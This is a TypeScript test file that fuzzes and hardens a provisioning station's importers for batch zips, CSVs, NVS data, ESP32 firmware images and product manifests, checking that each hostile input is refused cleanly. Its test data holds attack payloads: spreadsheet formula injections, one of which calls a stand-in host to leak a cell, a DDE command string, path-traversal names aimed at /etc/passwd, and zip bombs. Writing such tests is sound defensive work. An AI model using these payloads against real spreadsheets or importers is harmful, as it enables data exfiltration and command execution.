import { createWriteStream, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { once } from 'node:events';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importBatchZip } from '../../core/batches/batch-store.js';
import { buildBatchZip, CSV_COLUMNS, CSV_FILE_NAME, parseBatchZip } from '../../core/batches/batch-zip.js';
import { decodeCsvBytes, parseCsv, writeCsv } from '../../core/batches/csv.js';
import { readZip, writeZip } from '../../core/batches/zip.js';
import { openStationDatabase, type StationDatabase } from '../../core/db/open-database.js';
import { parseEspImage } from '../../core/payload/esp-image.js';
import { buildNvsImage } from '../../core/payload/nvs-image.js';
import { parseNvsCsv, readNvsCsvFile } from '../../core/payload/nvs-csv.js';
import { defaultProductManifestPath, parseProductManifest } from '../../core/product/manifest.js';
import { TokenQueue } from '../../core/queue/token-queue.js';
import { batchTokens } from '../core/batches/batch-fixtures.js';
import { intBelow, prng, randomBytesFrom, stationErrorOf } from './fuzz-kit.js';

/**
 * Hostile files, bounded: every refusal is a StationError (never a TypeError or RangeError from deep
 * inside a parser), big inputs are refused by their limits before they cost memory or minutes, and
 * the station database is untouched afterwards (integrity_check ok, token counts unchanged).
 * Big files are generated on the fly in a temp dir and deleted.
 */
const ORG = 4821;
const TEMPLATE = 'TMPL7';
const HUNDRED_MB = 100 * 1024 * 1024;
const MILLION = 1_000_000;

let dir: string;
let db: StationDatabase;
let queue: TokenQueue;
let validZip: Buffer;

function dbSnapshot(): { integrity: string; tokens: number; available: number; audit: number; batches: number } {
  return {
    integrity: (db.pragma('integrity_check', { simple: true }) as string) ?? '',
    tokens: (db.prepare('SELECT count(*) AS n FROM tokens').get() as { n: number }).n,
    available: (db.prepare("SELECT count(*) AS n FROM tokens WHERE state = 'available'").get() as { n: number }).n,
    audit: (db.prepare('SELECT count(*) AS n FROM audit_log').get() as { n: number }).n,
    batches: (db.prepare('SELECT count(*) AS n FROM batches').get() as { n: number }).n,
  };
}

let before: ReturnType<typeof dbSnapshot>;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'hardening-files-'));
  db = openStationDatabase(join(dir, 'station.db'));
  queue = new TokenQueue(db);
  queue.importBatch({ batchId: 'B1', cloudBatchId: 'c1', templateId: TEMPLATE, orgId: ORG, tokens: batchTokens(20, 'resident') });
  validZip = await buildBatchZip({ templateId: TEMPLATE, orgId: ORG, tokens: batchTokens(5, 'incoming').map((t) => ({ ...t, stationState: 'available' })) });
  before = dbSnapshot();
  expect(before.integrity).toBe('ok');
});

afterAll(() => {
  const after = dbSnapshot();
  db.close();
  rmSync(dir, { recursive: true, force: true });
  // Every hostile import below left the station's data exactly as it was.
  expect(after).toEqual(before);
});

/** A file of `rows` CSV lines written through a stream, never held in memory whole. */
async function writeRowsFile(path: string, header: string, rows: number, row: (i: number) => string): Promise<number> {
  const out = createWriteStream(path);
  out.write(header);
  const CHUNK = 10_000;
  for (let i = 0; i < rows; i += CHUNK) {
    let chunk = '';
    for (let j = i; j < Math.min(rows, i + CHUNK); j++) chunk += row(j);
    if (!out.write(chunk)) await once(out, 'drain');
  }
  out.end();
  await once(out, 'close');
  return statSync(path).size;
}

describe('CSV and batch zips', () => {
  it('a 100 MB CSV is refused by its size before it is decoded; the import of it inside a zip too', () => {
    const big = Buffer.alloc(HUNDRED_MB, 'a,b\r\n');
    const started = performance.now();
    expect(stationErrorOf(() => decodeCsvBytes(big)).message).toMatch(/104857600 bytes; at most/);
    // Deflated, 100 MB of one repeated record is ~100 KB: a ratio bomb and an over-size entry.
    const zip = writeZip([{ name: CSV_FILE_NAME, data: big }]);
    const err = stationErrorOf(() => importBatchZip(db, zip));
    expect(err.code).toBe('INVALID_INPUT');
    expect(err.message).toMatch(/bytes|ratio|bomb|larger/i);
    expect(performance.now() - started).toBeLessThan(15_000);
  });

  it('a million-row CSV (streamed to disk) is refused by the row limit, naming it', async () => {
    const path = join(dir, 'million.csv');
    const header = `${CSV_COLUMNS.join(',')}\r\n`;
    const size = await writeRowsFile(path, header, MILLION, (i) => `${i},q,p,${TEMPLATE},${ORG},available\r\n`);
    expect(size).toBeGreaterThan(20 * 1024 * 1024);
    const bytes = readFileSync(path);
    // At the default limits the size refuses it first; with the size limit lifted, the row limit does.
    expect(stationErrorOf(() => decodeCsvBytes(bytes)).message).toMatch(/at most/);
    const text = decodeCsvBytes(bytes, { maxBytes: Infinity, maxRows: 100_001, maxFieldChars: 4096 });
    expect(stationErrorOf(() => parseCsv(text)).message).toMatch(/row|record/i);
    rmSync(path);
  });

  it('formula injection: cells a spreadsheet would run are neutralised on export and refused as tokens on import', () => {
    const evil = ['=HYPERLINK("http://x.test/?"&A1)', '+cmd|\'/c calc\'!A0', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    const text = writeCsv([['cell'], ...evil.map((e) => [e])]);
    for (const line of text.split('\r\n').slice(1, -1)) expect(line).toMatch(/^"?'/);
    for (const e of evil) {
      const rows = [[...CSV_COLUMNS], [e.padEnd(32, 'A').slice(0, 32), `sqr_${'Q'.repeat(32)}`, `sqr_${'Q'.repeat(32)}+${ORG}`, TEMPLATE, String(ORG), 'available']];
      const zip = writeZip([{ name: CSV_FILE_NAME, data: Buffer.from(writeCsv(rows)) }, { name: 'qr/', data: Buffer.alloc(0) }]);
      const err = stationErrorOf(() => importBatchZip(db, zip), e);
      expect(err.code).toBe('INVALID_INPUT');
    }
  });

  it('headers: missing, duplicated, blank, reordered-with-a-twin, or only a BOM are refused', () => {
    const body = (header: string[]) => {
      const rows = [header, ...batchTokens(1, 'hdr').map((t) => header.map((h) => (h === 'AuthToken' ? t.authToken : h === 'QR Token' ? t.qrToken : '')))];
      return writeZip([{ name: CSV_FILE_NAME, data: Buffer.from(writeCsv(rows)) }]);
    };
    const cases = [
      ['QR Token'],
      ['AuthToken', 'AuthToken', 'QR Token'],
      ['AuthToken', '', 'QR Token'],
      ['QR Token', 'AuthToken', 'authtoken'],
      ['AuthToken ', 'QR Token'],
    ];
    for (const header of cases) expect(stationErrorOf(() => importBatchZip(db, body(header)), header.join('|')).code).toBe('INVALID_INPUT');
    const bomOnly = writeZip([{ name: CSV_FILE_NAME, data: Buffer.from([0xef, 0xbb, 0xbf]) }]);
    expect(stationErrorOf(() => importBatchZip(db, bomOnly)).code).toBe('INVALID_INPUT');
  });

  it('wrong encodings inside a real batch zip (Latin-1, UTF-16 LE without BOM, Windows-1252 quotes) are refused', () => {
    const csv = readZip(validZip).find((e) => e.name === CSV_FILE_NAME)!.data.toString('utf8');
    const rest = readZip(validZip).filter((e) => e.name !== CSV_FILE_NAME);
    const variants = [
      Buffer.from(`${csv}caf\xe9\r\n`, 'latin1'),
      Buffer.from(csv, 'utf16le'),
      Buffer.concat([Buffer.from(csv), Buffer.from([0x93, 0x94])]),
    ];
    for (const data of variants) {
      expect(stationErrorOf(() => importBatchZip(db, writeZip([{ name: CSV_FILE_NAME, data }, ...rest]))).message).toMatch(/UTF|binary|CSV/);
    }
  });

  it('400 random mutations of a valid batch zip (bit flips, truncations, spliced bytes): each is a StationError or the exact batch', () => {
    const good = parseBatchZip(validZip);
    const rand = prng(9);
    let refused = 0;
    for (let i = 0; i < 400; i++) {
      const z = Buffer.from(validZip);
      let mutated: Buffer;
      const kind = i % 4;
      if (kind === 0) {
        for (let k = 1 + intBelow(rand, 4); k > 0; k--) {
          const at = intBelow(rand, z.length);
          z[at] = z[at]! ^ (1 << intBelow(rand, 8));
        }
        mutated = z;
      } else if (kind === 1) mutated = z.subarray(0, intBelow(rand, z.length));
      else if (kind === 2) {
        const at = intBelow(rand, z.length);
        mutated = Buffer.concat([z.subarray(0, at), Buffer.from(randomBytesFrom(rand, 1 + intBelow(rand, 64))), z.subarray(at)]);
      } else {
        const at = intBelow(rand, z.length - 4);
        z.writeUInt32LE(Math.floor(rand() * 2 ** 32), at);
        mutated = z;
      }
      try {
        const parsed = parseBatchZip(mutated);
        // A flip may land where nothing is read (a timestamp): then the batch must be exactly the same.
        expect(parsed.tokens, `mutation ${i}`).toEqual(good.tokens);
      } catch (err) {
        expect(err, `mutation ${i}: ${String(err)}`).toHaveProperty('code', 'INVALID_INPUT');
        refused++;
      }
      if (i % 50 === 0) expect(stationErrorOf(() => importBatchZip(db, mutated.subarray(0, 10)))).toBeDefined();
    }
    expect(refused).toBeGreaterThan(300);
  });

  it('zips: a traversal name under every disguise, and a nested bomb, are refused before anything is written', () => {
    const names = ['../static-tokens.csv', 'qr/../../etc/passwd', '/abs.csv', 'C:\\x.csv', 'qr\\..\\x.png', 'qr//x.png', 'qr/\u0000.png', './static-tokens.csv'];
    for (const name of names) {
      expect(stationErrorOf(() => readZip(writeZip([{ name, data: Buffer.from('x') }])), name).code).toBe('INVALID_INPUT');
    }
    // A zip inside a zip is just bytes to us (never opened), but a 1:1000 inner bomb is still refused by ratio.
    const inner = writeZip([{ name: 'inner.csv', data: Buffer.alloc(8 * 1024 * 1024) }]);
    const outer = writeZip([{ name: CSV_FILE_NAME, data: Buffer.alloc(4 * 1024 * 1024, 0x20) }, { name: 'qr/inner.zip', data: inner }]);
    expect(stationErrorOf(() => importBatchZip(db, outer)).code).toBe('INVALID_INPUT');
  });
});

describe('NVS CSV', () => {
  it('300 random texts (bytes, CSV fragments, odd encodings) give entries or a StationError, never a crash', () => {
    const rand = prng(21);
    const pieces = ['key,type,encoding,value\n', 'blynk,namespace,,\n', 'auth,data,string,', '"', '""', ',', '\r\n', '\n', '#', 'u8', 'i64', 'hex2bin', 'base64', 'blob_fill(4;0x', '99999999999999999999', '-1', 'file', '../../etc/passwd', '\uFEFF', '\u0000'];
    let refused = 0;
    for (let i = 0; i < 300; i++) {
      let text = '';
      for (let k = intBelow(rand, 30); k > 0; k--) {
        text += rand() < 0.8 ? pieces[intBelow(rand, pieces.length)] : Buffer.from(randomBytesFrom(rand, intBelow(rand, 20))).toString('latin1');
      }
      try {
        const entries = parseNvsCsv(text, dir);
        try {
          buildNvsImage(entries, 0x6000);
        } catch (err) {
          expect(err, `text ${i}: ${String(err)}`).toHaveProperty('code', 'INVALID_INPUT');
        }
      } catch (err) {
        expect(err, `text ${i}: ${String(err)}`).toHaveProperty('code', 'INVALID_INPUT');
        refused++;
      }
    }
    expect(refused).toBeGreaterThan(100);
  });

  it('a million-row NVS CSV (streamed to disk) is refused with a clear error when the image is built, in bounded time', async () => {
    const path = join(dir, 'million-nvs.csv');
    await writeRowsFile(path, 'key,type,encoding,value\nblynk,namespace,,\n', MILLION, (i) => `k${i % 100_000},data,u32,${i}\n`);
    const started = performance.now();
    let err: unknown;
    try {
      buildNvsImage(readNvsCsvFile(path), 0x6000);
    } catch (e) {
      err = e;
    }
    expect(err).toHaveProperty('code', 'INVALID_INPUT');
    expect(String((err as Error).message)).toMatch(/\w+/);
    expect(performance.now() - started).toBeLessThan(30_000);
    rmSync(path);
  });

  it('a file that is not UTF-8 is refused by name', () => {
    const path = join(dir, 'latin1.csv');
    writeFileSync(path, Buffer.from('key,type,encoding,value\nblynk,namespace,,\nname,data,string,caf\xe9\n', 'latin1'));
    expect(stationErrorOf(() => readNvsCsvFile(path)).message).toMatch(/UTF-8/);
  });
});

describe('firmware images', () => {
  const good = new Uint8Array(readFileSync(join(import.meta.dirname, '..', 'vectors', 'firmware', 'esp32-app.bin')));

  it('every truncation (1 KB steps) and 600 random byte flips of a hashed app image are refused with a StationError', () => {
    for (let n = 0; n < good.length; n += 1024) expect(stationErrorOf(() => parseEspImage(good.subarray(0, n), { chip: 'ESP32' }), `cut at ${n}`).code).toBe('INVALID_INPUT');
    const rand = prng(33);
    for (let i = 0; i < 600; i++) {
      const bad = good.slice();
      const at = intBelow(rand, bad.length);
      bad[at] = bad[at]! ^ (1 + intBelow(rand, 255));
      // SHA-256 covers every byte before it and the checksum byte; the hash itself is compared.
      expect(stationErrorOf(() => parseEspImage(bad, { chip: 'ESP32' }), `flip at ${at}`).code).toBe('INVALID_INPUT');
    }
  });

  it('random bytes with a valid magic, and an image for each other chip, are refused', () => {
    const rand = prng(34);
    for (let i = 0; i < 200; i++) {
      const junk = randomBytesFrom(rand, 24 + intBelow(rand, 4096));
      junk[0] = 0xe9;
      stationErrorOf(() => parseEspImage(junk, { chip: 'ESP32' }), `junk ${i}`);
    }
    for (const chip of ['ESP32-S3', 'ESP32-C3'] as const) {
      expect(stationErrorOf(() => parseEspImage(good, { chip })).message).toMatch(/built for ESP32, not for/);
    }
    // An ESP8266 image has another layout: read as one, an ESP32 app is refused as malformed.
    expect(stationErrorOf(() => parseEspImage(good, { chip: 'ESP8266' })).code).toBe('INVALID_INPUT');
  });
});

describe('product manifests that lie', () => {
  const manifestPath = defaultProductManifestPath('demo-thermostat');
  const demo = JSON.parse(readFileSync(manifestPath, 'utf8')) as unknown;

  /** Every [parent, key] path in a JSON tree. */
  function paths(node: unknown, out: Array<[Record<string, unknown> | unknown[], string | number]> = []) {
    if (Array.isArray(node)) {
      node.forEach((v, i) => {
        out.push([node, i]);
        paths(v, out);
      });
    } else if (node && typeof node === 'object') {
      for (const [k, v] of Object.entries(node)) {
        out.push([node as Record<string, unknown>, k]);
        paths(v, out);
      }
    }
    return out;
  }

  it('250 random type and value mutations: each loads or is refused with a StationError, never a crash', () => {
    const rand = prng(55);
    const values: unknown[] = [null, -1, 0, 1e308, 2 ** 53 + 1, '', 'x'.repeat(100_000), [], {}, true, '0x9000', '../../../../etc/passwd', '4MB', { path: 'x' }, [{}], 'ESP32-P4'];
    let refused = 0;
    for (let i = 0; i < 250; i++) {
      const m = structuredClone(demo);
      const all = paths(m);
      for (let k = 1 + intBelow(rand, 2); k > 0; k--) {
        const [parent, key] = all[intBelow(rand, all.length)]!;
        if (rand() < 0.2 && !Array.isArray(parent)) delete (parent as Record<string, unknown>)[key as string];
        else (parent as Record<string | number, unknown>)[key] = structuredClone(values[intBelow(rand, values.length)]);
      }
      try {
        parseProductManifest(m, manifestPath);
      } catch (err) {
        expect(err, `mutation ${i}: ${String(err)}`).toHaveProperty('code', 'INVALID_INPUT');
        expect(String((err as Error).message).length, `mutation ${i}`).toBeLessThan(2_000);
        refused++;
      }
    }
    expect(refused).toBeGreaterThan(150);
  });
});
